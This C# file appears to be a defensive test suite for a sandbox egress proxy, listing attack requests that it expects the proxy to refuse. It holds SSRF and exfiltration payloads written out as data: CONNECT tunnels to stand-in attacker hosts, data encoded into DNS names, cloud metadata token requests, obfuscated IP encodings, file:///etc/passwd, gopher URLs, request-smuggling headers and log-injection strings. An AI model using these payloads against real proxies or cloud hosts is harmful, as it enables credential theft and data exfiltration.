namespace LlmOpsSecure.Attacks.Egress;

/// <summary>What is asked of the proxy.</summary>
internal static class ProxyAttacks
{
    private const string List = "egress proxy: list";
    private const string Methods = "egress proxy: tunnels only";
    private const string Parser = "egress proxy: HTTP parser";
    private const string Hosts = "sandbox-egress-names-hosts";
    private const string Refused = "403, logged TCP_DENIED";
    private const string Malformed = "400, logged NONE_NONE";

    public static IReadOnlyList<Attack<EgressWorld>> All { get; } =
    [
        Connect("a host that is not listed", "attacker.example.net:443"),
        Connect("a name below a listed host", "evil.api.search.example.com:443"),
        Connect("the parent of a listed host", "search.example.com:443"),
        Connect("a name that ends as a listed host does", "evilapi.search.example.com:443"),
        Connect("a name that ends as a wildcard does, without its dot", "evildocs.example.com:443"),
        Connect("a listed host as the beginning of another name", "api.search.example.com.attacker.example.net:443"),
        Connect("a listed host as a label of another name", "api-search-example-com.attacker.example.net:443"),
        Connect("a host of another class's list", "mail.example.com:443"),
        new("another class asks for this class's host", List, Hosts, Refused, world => new SandboxCaller(world, "mail-1", "mail").TunnelAsync("api.search.example.com:443")),
        Connect("a name that carries data to its resolver", "c2VjcmV0.attacker.example.net:443"),
        Connect("localhost", "localhost:443"),
        Connect("the proxy's own name", "egress-proxy.search:443"),
        Connect("a service of the cluster", "kubernetes.default.svc.cluster.local:443"),

        Connect("the address of a listed host", $"{EgressWorld.Search}:443"),
        Connect("the metadata service", $"{EgressWorld.Metadata}:80"),
        Connect("the metadata service on port 443", $"{EgressWorld.Metadata}:443"),
        Connect("WireServer", $"{EgressWorld.WireServer}:443"),
        Connect("the API server", $"{EgressWorld.ApiServer}:443"),
        Connect("another sandbox", "10.244.1.12:443"),
        Connect("loopback", "127.0.0.1:443"),
        Connect("an exit of the proxy", "127.1.0.1:443"),
        Connect("an address as one decimal number", "2852039166:443"),
        Connect("an address as one octal number", "025177524776:443"),
        Connect("an address as one hexadecimal number", "0xa9fea9fe:443"),
        Connect("an address in octal", "0251.0376.0251.0376:443"),
        Connect("an address in hexadecimal", "0xa9.0xfe.0xa9.0xfe:443"),
        Connect("an address in mixed notation", "169.0xfe.0251.254:443"),
        Connect("a short address", "127.1:443"),
        Connect("an address of zero", "0:443"),
        Connect("an address with leading zeros", "169.254.169.00254:443"),
        Connect("an IPv6 address", "[2001:db8::1]:443"),
        Connect("IPv6 loopback", "[::1]:443"),
        Connect("an IPv4 address mapped into IPv6", "[::ffff:169.254.169.254]:443"),
        Connect("an IPv4 address mapped into IPv6, in hexadecimal", "[::ffff:a9fe:a9fe]:443"),
        Connect("an IPv4 address translated into IPv6", "[64:ff9b::a9fe:a9fe]:443"),
        Connect("a link-local address with a zone", "[fe80::1%25eth0]:443"),
        Connect("an address with a dot at its end", "169.254.169.254.:443"),
        Connect("a name that holds an address", "169.254.169.254.nip.attacker.example.net:443"),

        Connect("a listed host on port 22", "api.search.example.com:22"),
        Connect("a listed host on port 80", "api.search.example.com:80"),
        Connect("a listed host on the port of another entry", "api.search.example.com:8443"),
        Connect("an entry of another port on 443", "files.example.com:443"),
        Connect("a listed host on port 0", "api.search.example.com:0", Malformed),
        Connect("a listed host on a port past the last", "api.search.example.com:65979", Malformed),
        Connect("a listed host on a negative port", "api.search.example.com:-443", Malformed),

        Connect("a listed host with a user name before it", "user:pass@api.search.example.com:443"),
        Connect("a listed host as the user name of another", "api.search.example.com@attacker.example.net:443"),
        Connect("a listed host with an encoded dot", "api%2esearch.example.com:443"),
        Connect("another host behind an encoded slash", "attacker.example.net%2f.docs.example.com:443"),
        Connect("another host behind an encoded zero", "attacker.example.net%00.docs.example.com:443"),
        Connect("another host behind a fragment", "attacker.example.net#.docs.example.com:443"),
        Connect("another host behind a backslash", "attacker.example.net\\.docs.example.com:443"),
        Connect("a host in wide letters", "\u00ef\u00bd\u0081pi.search.example.com:443"),
        Connect("a name of 300 letters", $"{string.Join('.', Enumerable.Repeat(new string('a', 49), 6))}.docs.example.com:443"),
        Connect("a wildcard as a name", "*.docs.example.com:443"),
        Connect("the dot of a wildcard alone", ".docs.example.com:443", Malformed),
        Connect("two dots before a listed domain", "a..docs.example.com:443", Malformed),
        Connect("an empty name", ":443", Malformed),

        Raw("plain HTTP to a listed host", Methods, Refused, Get("http://api.search.example.com/")),
        Raw("plain HTTP to a listed host on its port", Methods, Refused, Get("http://api.search.example.com:443/")),
        Raw("HTTPS without a tunnel", Methods, Refused, Get("https://api.search.example.com/")),
        Raw("plain HTTP to the metadata service", Methods, Refused, Get("http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01", "Metadata: true\r\n")),
        Raw("plain HTTP with the header Host of a listed host", Methods, Refused, Get("http://attacker.example.net/", host: "api.search.example.com")),
        Raw("a path with the header Host of a listed host", Methods, Malformed, Get("/", host: "api.search.example.com")),
        Raw("a path with the header Host of the metadata service", Methods, Malformed, Get("/metadata/instance", host: EgressWorld.Metadata)),
        Raw("POST with a body", Methods, Refused, "POST http://api.search.example.com/ HTTP/1.1\r\nHost: api.search.example.com\r\nContent-Length: 6\r\n\r\nsecret"),
        Raw("PUT", Methods, Refused, Get("http://api.search.example.com/").Replace("GET", "PUT", StringComparison.Ordinal)),
        Raw("TRACE", Methods, Refused, Get("http://api.search.example.com/").Replace("GET", "TRACE", StringComparison.Ordinal)),
        Raw("OPTIONS of the proxy", Methods, "501, logged NONE_NONE", "OPTIONS * HTTP/1.1\r\nHost: api.search.example.com\r\n\r\n"),
        Raw("PURGE", Methods, Refused, Get("http://api.search.example.com/").Replace("GET", "PURGE", StringComparison.Ordinal)),
        Raw("a method of its own", Methods, Refused, Get("http://api.search.example.com/").Replace("GET", "LEAK", StringComparison.Ordinal)),
        Raw("FTP", Methods, Refused, Get("ftp://attacker.example.net/")),
        Raw("FTP to a listed host", Methods, Refused, Get("ftp://api.search.example.com/")),
        Raw("gopher", Methods, "501, logged NONE_NONE", Get("gopher://attacker.example.net:70/_secret")),
        Raw("whois", Methods, Refused, Get("whois://attacker.example.net/secret")),
        Raw("a file", Methods, Malformed, Get("file:///etc/passwd")),
        Raw("a URN", Methods, Refused, Get("urn:isbn:1")),
        Raw("the cache manager", Methods, Refused, Get("cache_object://localhost/info")),
        Raw("the cache manager over HTTP", Methods, Refused, Get("http://egress-proxy.search:3128/squid-internal-mgr/info")),
        Raw("the cache manager by path", Methods, Refused, Get("/squid-internal-mgr/info", host: "egress-proxy.search")),
        Raw("an icon of the proxy", Methods, Refused, Get("/squid-internal-static/icons/SN.png", host: "egress-proxy.search")),

        Raw("a tunnel to another host with the header Host of a listed one", List, Refused, "CONNECT attacker.example.net:443 HTTP/1.1\r\nHost: api.search.example.com:443\r\n\r\n"),
        Raw("a tunnel to another host with credentials", List, Refused, "CONNECT attacker.example.net:443 HTTP/1.1\r\nHost: a\r\nProxy-Authorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
        Raw("a tunnel to another host for another sandbox", List, Refused, "CONNECT attacker.example.net:443 HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: 127.0.0.1\r\nForwarded: for=127.0.0.1\r\nVia: 1.1 egress-proxy.search\r\n\r\n"),
        Raw("a tunnel to another host in absolute form", List, Refused, "CONNECT https://attacker.example.net:443/ HTTP/1.1\r\nHost: a\r\n\r\n"),
        Raw("a tunnel over HTTP/0.9", Parser, Malformed, "CONNECT attacker.example.net:443\r\n\r\n"),
        Raw("a tunnel to another host over HTTP/1.0", List, Refused, "CONNECT attacker.example.net:443 HTTP/1.0\r\n\r\n"),
        Raw("a PROXY header of the sandbox's own", Parser, Malformed, "PROXY TCP4 127.0.0.1 127.0.0.1 1 3130\r\nCONNECT api.search.example.com:443 HTTP/1.1\r\nHost: a\r\n\r\n"),
        Raw("two different lengths", Parser, "411, logged NONE_NONE", "POST http://api.search.example.com/ HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 9\r\n\r\nx"),
        Raw("a length and an encoding", Parser, Refused, "POST http://api.search.example.com/ HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nCONNECT attacker.example.net:443 HTTP/1.1\r\nHost: a\r\n\r\n"),
        Raw("a refused request and a tunnel in one", Parser, Refused, Get("http://attacker.example.net/") + "CONNECT attacker.example.net:443 HTTP/1.1\r\nHost: a\r\n\r\n"),
        Raw("headers over the cap", Parser, "431, logged NONE_NONE", $"CONNECT api.search.example.com:443 HTTP/1.1\r\nHost: a\r\nX-Note: {new string('a', 20_000)}\r\n\r\n"),
        Raw("a line of the log in a name", List, Refused, "CONNECT x\",\"result\":\"TCP_TUNNEL:443 HTTP/1.1\r\nHost: a\r\n\r\n"),
        Raw("a line of the log in a request id", List, Refused, "CONNECT attacker.example.net:443 HTTP/1.1\r\nHost: a\r\nX-Request-Id: 1\",\"result\":\"TCP_TUNNEL\r\n\r\n"),
        Raw("TLS to the proxy", Parser, Malformed, "\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003\r\n\r\n"),
        new("a name that is not listed is never resolved", List, "sandbox-names-are-limited", "not asked", NotAskedAsync),
    ];

    private static Attack<EgressWorld> Connect(string claim, string to, string expected = Refused) => Raw($"tunnel to {claim}", List, expected, $"CONNECT {to} HTTP/1.1\r\nHost: api.search.example.com:443\r\n\r\n", Hosts);

    private static Attack<EgressWorld> Raw(string claim, string by, string expected, string request, string policy = Hosts) =>
        new(claim, by, policy, expected, world => new SandboxCaller(world, "search-1").SendAsync(request));

    private static string Get(string target, string headers = "", string host = "api.search.example.com") => $"GET {target} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n";

    private static async Task<string> NotAskedAsync(EgressWorld world)
    {
        await new SandboxCaller(world, "search-1").TunnelAsync("unheard-of.attacker.example.net:443");
        var asked = world.Resolver.Asked.Where(name => name.Contains("unheard-of", StringComparison.Ordinal)).ToList();
        return asked.Count == 0 ? "not asked" : string.Join(", ", asked);
    }
}
